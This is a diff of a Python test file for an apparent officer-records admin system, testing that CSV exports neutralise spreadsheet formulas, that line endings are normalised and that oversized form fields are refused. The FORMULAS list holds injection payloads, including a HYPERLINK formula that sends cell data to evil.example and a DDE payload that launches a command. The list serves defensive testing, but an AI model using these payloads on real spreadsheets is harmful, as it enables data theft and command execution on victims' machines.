@@ -1,6 +1,7 @@
 """What crosses the boundary is made safe once: spreadsheet cells that would run as
 formulas, line endings from browsers and Windows files, and form posts larger than a text
 box should hold (refused field by field, with the form and what was typed kept)."""
+
 import csv
 import io
 
@@ -15,8 +16,7 @@ from .conftest import add_user
 from .test_admin import csrf, signed_in
 
 POWER = "Ministry of Power"
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
-            "\tx"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\tx"]
 
 
 @pytest.fixture
@@ -27,8 +27,18 @@ def admin(site):
 
 def test_exported_cells_never_start_a_formula(admin):
     for i, text in enumerate(FORMULAS):
-        lifecycle.insert(admin, "Officer", {"full_name": f"Officer {i}", "designation": text, "email": f"o{i}@power.gov.in",
-                                            "service": "IAS", "group": "A", "mdo": POWER})
+        lifecycle.insert(
+            admin,
+            "Officer",
+            {
+                "full_name": f"Officer {i}",
+                "designation": text,
+                "email": f"o{i}@power.gov.in",
+                "service": "IAS",
+                "group": "A",
+                "mdo": POWER,
+            },
+        )
     rows = list(csv.DictReader(io.StringIO(importer.export_rows(admin, "Officer"))))
     got = {r["full_name"]: r["designation"] for r in rows}
     for i, text in enumerate(FORMULAS):
@@ -47,18 +57,41 @@ def test_rejected_rows_files_never_start_a_formula():
 
 
 def test_select_options_typed_in_a_textarea_all_work(site, admin):
-    lifecycle.insert(admin, "Custom Field", {"ref_doctype": "Officer", "mdo": POWER, "fieldname": "wing", "label": "Wing",
-                                             "fieldtype": "Select", "options": "North\r\nSouth\r\nEast\r\n"})
+    lifecycle.insert(
+        admin,
+        "Custom Field",
+        {
+            "ref_doctype": "Officer",
+            "mdo": POWER,
+            "fieldname": "wing",
+            "label": "Wing",
+            "fieldtype": "Select",
+            "options": "North\r\nSouth\r\nEast\r\n",
+        },
+    )
     assert site.db.custom_field.find_one({"fieldname": "wing"})["options"] == "North\nSouth\nEast\n"
     for i, wing in enumerate(("North", "South", "East")):
-        doc = lifecycle.insert(admin, "Officer", {"full_name": f"W {i}", "email": f"w{i}@power.gov.in", "service": "IAS",
-                                                  "group": "A", "mdo": POWER, "wing": wing})
+        doc = lifecycle.insert(
+            admin,
+            "Officer",
+            {"full_name": f"W {i}", "email": f"w{i}@power.gov.in", "service": "IAS", "group": "A", "mdo": POWER, "wing": wing},
+        )
         assert doc.get("wing") == wing
 
 
 def test_text_keeps_one_kind_of_line_ending(admin):
-    doc = lifecycle.insert(admin, "Officer", {"full_name": "Line Endings", "email": "le@power.gov.in", "service": "IAS",
-                                              "group": "A", "mdo": POWER, "remarks": "one\r\ntwo\rthree\nfour"})
+    doc = lifecycle.insert(
+        admin,
+        "Officer",
+        {
+            "full_name": "Line Endings",
+            "email": "le@power.gov.in",
+            "service": "IAS",
+            "group": "A",
+            "mdo": POWER,
+            "remarks": "one\r\ntwo\rthree\nfour",
+        },
+    )
     assert doc.get("remarks") == "one\ntwo\nthree\nfour"
 
 
@@ -67,9 +100,18 @@ def test_a_long_text_box_is_refused_with_the_form_and_the_text_kept(site, admin)
     client = signed_in(app, "nodal@power.gov.in")
     token = csrf(client, "/admin/officer/new/")
     long_text = "word " * 120_000  # 600 KB in a plain text box
-    r = client.post("/admin/officer/new/", data={
-        "csrf_token": token, "full_name": "Kept Form", "email": "kept@power.gov.in", "service": "IAS", "group": "A",
-        "mdo": POWER, "remarks": long_text})
+    r = client.post(
+        "/admin/officer/new/",
+        data={
+            "csrf_token": token,
+            "full_name": "Kept Form",
+            "email": "kept@power.gov.in",
+            "service": "IAS",
+            "group": "A",
+            "mdo": POWER,
+            "remarks": long_text,
+        },
+    )
     page = r.get_data(as_text=True)
     assert r.status_code == 200 and "Must be at most 2,000 characters; this is 600,000." in page
     assert long_text.strip() in page and 'value="Kept Form"' in page  # what was typed is still in the form
